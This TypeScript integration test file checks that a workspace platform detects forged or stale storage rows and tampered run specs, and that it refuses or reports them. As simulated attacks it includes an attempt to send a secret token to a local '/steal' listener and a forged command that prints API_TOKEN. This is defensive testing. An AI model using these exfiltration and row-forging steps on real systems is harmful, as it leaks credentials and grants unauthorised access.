import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { TableEntityResult } from '@azure/data-tables';
import { BlobServiceClient, type ContainerClient } from '@azure/storage-blob';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RecordedEvent } from '../../domain/events';
import type { RunEvent } from '../../domain/run';
import { requestRun } from '../../domain/services/runs';
import { recoverWorkspace, removeLiveRecordsAndSeal, requestWorkspaceDeletion, softDeleteWorkspaceVault } from '../../domain/services/workspaceLifecycle';
import { TableWorkspaceRecords } from '../../infra/tables/tableWorkspaceRecords';
import type { RunStores } from '../../domain/services/runPorts';
import { projectionKeys, runStreamId } from '../../domain/streams';
import { BlobRunSpecStore, BlobTranscriptStore } from '../../infra/runs/blobRunStores';
import { leftoverRemover } from '../../infra/runs/leftoverSandboxes';
import type { RunRuntime } from '../../domain/services/runContext';
import { aRunRuntime } from '../support/runRuntime';
import { install, mcp, seed, turn } from '../../domain/services/runSteps';
import { teardown } from '../../domain/services/runTeardown';
import { projectionRowKey } from '../../infra/tables/rowKeys';
import { createGatewayHarness, type GatewayHarness, type LaunchedRun } from '../infra/gateway/gatewayHarness';
import { aSecretValue } from '../infra/sandbox/sandboxTestKit';
import { azuriteConnectionString, uniqueName } from '../support/azurite';

/**
 * The second line behind "a sandbox cannot reach storage": code that CAN write the event table and the spec
 * container (Azurite's well-known key) edits what decisions used to read. Nothing it writes changes a decision;
 * each attempt is named in the workspace's log as `ProjectionMismatchDetected`, or fails the run with its reason.
 */

type Entity = TableEntityResult<Record<string, unknown>>;

/** A listener that records whatever reaches it: where a widened allow-list would send the token. */
async function startCatcher(): Promise<{ hostPort: string; origin: string; seen: string[]; close(): Promise<void> }> {
  const seen: string[] = [];
  const server = http.createServer((req, res) => {
    seen.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`);
    res.end('caught');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  return { hostPort: `127.0.0.1:${port}`, origin: `http://127.0.0.1:${port}`, seen, close: () => new Promise((r) => server.close(() => r())) };
}

let h: GatewayHarness;
let catcher: Awaited<ReturnType<typeof startCatcher>>;
let api: Awaited<ReturnType<typeof startCatcher>>;
let ws: string;
let owner: string;
const rootDir = mkdtempSync(path.join(tmpdir(), 'dp-verified-'));

/** The row as storage holds it (MAC, stream and version columns included). */
async function rawRow(workspaceId: string, key: string): Promise<Entity> {
  return h.api.eventTable.getEntity<Record<string, unknown>>(workspaceId, projectionRowKey(key));
}

/** What an attacker with the account key does: rewrite the value, keep every other column (MAC included). */
async function tamper(workspaceId: string, key: string, edit: (value: Record<string, unknown>) => void): Promise<void> {
  const row = await rawRow(workspaceId, key);
  expect(row['valueParts']).toBe(1);
  const value = JSON.parse(String(row['value0'])) as Record<string, unknown>;
  edit(value);
  await putBack({ ...row, value0: JSON.stringify(value) });
}

/** Writes a row as given (an edited one, or an older copy kept aside), whatever is there now. */
async function putBack(row: Entity): Promise<void> {
  const { etag: _etag, timestamp: _ts, partitionKey, rowKey, ...columns } = row as Entity & { timestamp?: string };
  await h.api.eventTable.upsertEntity({ partitionKey: String(partitionKey), rowKey: String(rowKey), ...columns }, 'Replace');
}

async function mismatches(workspaceId: string): Promise<Array<Record<string, unknown>>> {
  const log = await h.api.store.readLog(workspaceId, { limit: 1000 });
  return log.records.filter((r) => r.type === 'ProjectionMismatchDetected').map((r) => r.data as Record<string, unknown>);
}

beforeAll(async () => {
  [catcher, api] = await Promise.all([startCatcher(), startCatcher()]);
  h = await createGatewayHarness();
  owner = h.owner;
  ws = await h.workspace('Verified', [{ name: 'API_TOKEN', value: aSecretValue('api'), allowedHosts: [api.hostPort] }]);
});

afterAll(async () => {
  await h?.close();
  await Promise.all([catcher?.close(), api?.close()]);
  rmSync(rootDir, { recursive: true, force: true });
});

describe('membership and roles come from verified state', () => {
  it('a summary row edited to make an outsider owner changes no decision; it is reported and repaired, and the log still verifies', async () => {
    const mallory = await h.api.issuer.token('mallory');
    await tamper(ws, projectionKeys.workspace, (summary) => {
      (summary.members as Array<{ userId: string; role: string }>).push({ userId: 'mallory', role: 'owner' });
    });
    expect((await h.api.call('GET', `/api/workspaces/${ws}`, { token: mallory })).status).toBe(404);
    expect((await h.api.call('PUT', `/api/workspaces/${ws}/members/mallory`, { token: mallory, body: { role: 'owner' } })).status).toBe(404);
    expect(await mismatches(ws)).toContainEqual(expect.objectContaining({ projection: 'workspace', found: 'forged', streamId: `workspace:${ws}` }));
    // The row was rewritten from the log with the record: the owner's view names no mallory.
    const view = await h.api.call('GET', `/api/workspaces/${ws}`, { token: owner });
    expect(view.status).toBe(200);
    expect(JSON.stringify(view.json)).not.toContain('mallory');
    expect(JSON.stringify(await h.api.store.readProjection(ws, projectionKeys.workspace))).not.toContain('mallory');
    expect((await h.api.call('GET', `/api/workspaces/${ws}/audit/verify`, { token: owner })).json).toMatchObject({ ok: true });
  });

  it('a MAC copied from another workspace, or a row with its MAC removed, is caught the same way', async () => {
    const forgedBefore = (await mismatches(ws)).filter((m) => m.found === 'forged').length;
    // Another workspace, where mallory really is the owner: its summary row, MAC and all, moved here.
    const other = ((await h.api.call('POST', '/api/workspaces', { token: await h.api.issuer.token('mallory'), body: { name: 'Mallory' } })).json as { id: string }).id;
    const mine = await rawRow(ws, projectionKeys.workspace);
    await putBack({ ...(await rawRow(other, projectionKeys.workspace)), partitionKey: ws });
    const mallory = await h.api.issuer.token('mallory');
    expect((await h.api.call('GET', `/api/workspaces/${ws}`, { token: mallory })).status).toBe(404);
    // This workspace's own row with mallory added and the MAC column dropped.
    const { mac: _mac, ...unsealed } = mine;
    const value = JSON.parse(String(unsealed['value0'])) as { members: Array<{ userId: string; role: string }> };
    value.members.push({ userId: 'mallory', role: 'owner' });
    await h.api.eventTable.deleteEntity(ws, projectionRowKey(projectionKeys.workspace));
    await putBack({ ...(unsealed as Entity), value0: JSON.stringify(value) });
    expect((await h.api.call('GET', `/api/workspaces/${ws}`, { token: mallory })).status).toBe(404);
    expect((await mismatches(ws)).filter((m) => m.projection === 'workspace' && m.found === 'forged').length).toBe(forgedBefore + 2);
  });

  it('an older valid summary row put back (a removed member still listed) is caught as stale', async () => {
    expect((await h.api.call('PUT', `/api/workspaces/${ws}/members/bob`, { token: owner, body: { role: 'owner' } })).status).toBe(200);
    const whenBobWasOwner = await rawRow(ws, projectionKeys.workspace);
    expect((await h.api.call('DELETE', `/api/workspaces/${ws}/members/bob`, { token: owner })).status).toBe(204);
    await putBack(whenBobWasOwner); // its MAC is valid: the platform wrote it, for an older version
    const bob = await h.api.issuer.token('bob');
    expect((await h.api.call('GET', `/api/workspaces/${ws}`, { token: bob })).status).toBe(404);
    expect((await h.api.call('PUT', `/api/workspaces/${ws}/members/bob`, { token: bob, body: { role: 'owner' } })).status).toBe(404);
    expect(await mismatches(ws)).toContainEqual(expect.objectContaining({ projection: 'workspace', found: 'stale' }));
  });

  it('a row that is merely behind its stream but shows the same thing is used without a report', async () => {
    const before = (await mismatches(ws)).length;
    // A denial appends to the workspace stream; every workspace append rewrites the summary, so it is current.
    expect((await h.api.call('GET', `/api/workspaces/${ws}`, { token: await h.api.issuer.token('eve') })).status).toBe(404);
    expect((await h.api.call('GET', `/api/workspaces/${ws}`, { token: owner })).status).toBe(200);
    expect((await mismatches(ws)).length).toBe(before);
  });
});

describe('rows rebuilt by recovery are sealed like appended ones', () => {
  it('after deletion and recovery every read verifies: nothing is reported', async () => {
    const id = await h.workspace('Recovered', [{ name: 'R_TOKEN', value: aSecretValue('r'), allowedHosts: ['example.com'] }]);
    const deps = { ...h.api.deps, records: new TableWorkspaceRecords(h.api.eventTable, h.api.store.projectionSeal), removeBlobs: async () => 0, purgeOutside: async () => undefined };
    const by = { actor: 'alice', correlationId: 'recover-test' };
    await requestWorkspaceDeletion(deps, by, id, 7);
    await softDeleteWorkspaceVault(deps, id, 'recover-test');
    await removeLiveRecordsAndSeal(deps, id, 'recover-test');
    await recoverWorkspace(deps, by, id);
    expect((await h.api.call('GET', `/api/workspaces/${id}`, { token: owner })).status).toBe(200);
    const listing = await h.api.call('GET', `/api/workspaces/${id}/secrets`, { token: owner });
    expect(listing.json).toEqual([expect.objectContaining({ name: 'R_TOKEN', allowedHosts: ['example.com'] })]);
    expect(await h.api.store.readCheckedProjection(id, projectionKeys.secret('R_TOKEN'))).toMatchObject({ check: 'verified' });
    expect(await mismatches(id)).toEqual([]);
  });
});

describe('a secret\'s allowedHosts come from verified state', () => {
  let run: LaunchedRun;
  beforeAll(async () => {
    run = await h.launch(ws, [{ name: 'API_TOKEN', value: 'unused-for-redaction', allowedHosts: [api.hostPort] }]);
  });

  it('allowedHosts widened in the secret\'s row send nothing to the new host; the mismatch is reported and the listing shows the truth', async () => {
    await tamper(ws, projectionKeys.secret('API_TOKEN'), (metadata) => {
      metadata.allowedHosts = [api.hostPort, catcher.hostPort];
    });
    const refused = await h.operate(run.bearer, { kind: 'http', url: `${catcher.origin}/steal`, secret: 'API_TOKEN' });
    expect(refused.status).toBe(403);
    expect(refused.json.code).toBe('GATEWAY.HOST_NOT_ALLOWED');
    expect(catcher.seen).toEqual([]);
    expect(await mismatches(ws)).toContainEqual(expect.objectContaining({ projection: 'secret:API_TOKEN', found: 'forged' }));
    const listing = await h.api.call('GET', `/api/workspaces/${ws}/secrets`, { token: owner });
    expect(listing.json).toEqual([expect.objectContaining({ name: 'API_TOKEN', allowedHosts: [api.hostPort] })]);
    // The allowed host still works: the repaired row verifies.
    expect((await h.operate(run.bearer, { kind: 'http', url: `${api.origin}/ok`, secret: 'API_TOKEN' })).status).toBe(200);
  });

  it('an older valid secret row put back after the owner narrowed allowedHosts is caught as stale', async () => {
    await h.setSecret(ws, { name: 'API_TOKEN', value: aSecretValue('api'), allowedHosts: [api.hostPort, catcher.hostPort] });
    const wide = await rawRow(ws, projectionKeys.secret('API_TOKEN'));
    await h.setSecret(ws, { name: 'API_TOKEN', value: aSecretValue('api'), allowedHosts: [api.hostPort] });
    await putBack(wide);
    const refused = await h.operate(run.bearer, { kind: 'http', url: `${catcher.origin}/steal`, secret: 'API_TOKEN' });
    expect(refused.json.code).toBe('GATEWAY.HOST_NOT_ALLOWED');
    expect(catcher.seen).toEqual([]);
    expect(await mismatches(ws)).toContainEqual(expect.objectContaining({ projection: 'secret:API_TOKEN', found: 'stale' }));
  });
});

describe('the RunSpec comes from verified state', () => {
  let specs: ContainerClient;
  let runtime: RunRuntime;
  beforeAll(async () => {
    specs = BlobServiceClient.fromConnectionString(azuriteConnectionString()).getContainerClient(uniqueName('specs'));
    const stores: RunStores = { specs: new BlobRunSpecStore(specs), transcripts: new BlobTranscriptStore(specs) };
    await h.setSecret(ws, { name: 'MODEL_KEY', value: aSecretValue('sk'), allowedHosts: [], uses: { model: 'members' } });
    runtime = aRunRuntime({ deps: h.api.deps, stores, host: h.host, bearers: h.bearers, removeLeftovers: leftoverRemover({ sandboxRoot: rootDir, credentialRoot: rootDir }) });
  });

  it('a spec blob rewritten between steps (a turn\'s modelKey now another secret) fails the run with a clear recorded reason; no lease of that secret', async () => {
    const { runId } = await requestRun(h.api.deps, runtime.stores, { start: async () => undefined, raiseCancel: async () => undefined }, { actor: 'alice', correlationId: 'spec-tamper' }, {
      workspaceId: ws,
      spec: { template: { files: {} }, turns: [{ command: ['node', '-e', '1'], modelKey: 'MODEL_KEY' }], deadlineSeconds: 60 },
    });
    expect(await seed(runtime, ws, runId)).toMatchObject({ ok: true });
    expect(await install(runtime, ws, runId)).toEqual({ ok: true });
    // The sandbox rewrites its stored spec: the turn would lease API_TOKEN and print it.
    const blob = specs.getBlockBlobClient(`${ws}/${runId}.json`);
    const spec = JSON.parse((await blob.downloadToBuffer()).toString('utf8')) as { turns: Array<Record<string, unknown>> };
    spec.turns[0] = { command: ['node', '-e', 'console.log(process.env.API_TOKEN)'], modelKey: 'API_TOKEN' };
    const text = JSON.stringify(spec);
    await blob.upload(text, Buffer.byteLength(text));
    const failed = await mcp(runtime, ws, runId);
    expect(failed).toEqual({ ok: false, reason: expect.stringMatching(/RUN\.SPEC_TAMPERED: the stored run spec does not match the digest recorded in RunRequested/) });
    expect(await turn(runtime, ws, runId, 1)).toMatchObject({ ok: false });
    await teardown(runtime, ws, runId);
    const events = (await h.api.store.readStream<RunEvent>(ws, runStreamId(runId))).events as readonly RecordedEvent<RunEvent>[];
    expect(events.some((e) => e.type === 'PhaseFailed' && /RUN\.SPEC_TAMPERED/.test(e.data.reason))).toBe(true);
    expect(events.some((e) => e.type === 'LeaseGranted' && e.data.secretName === 'API_TOKEN')).toBe(false);
  });
});
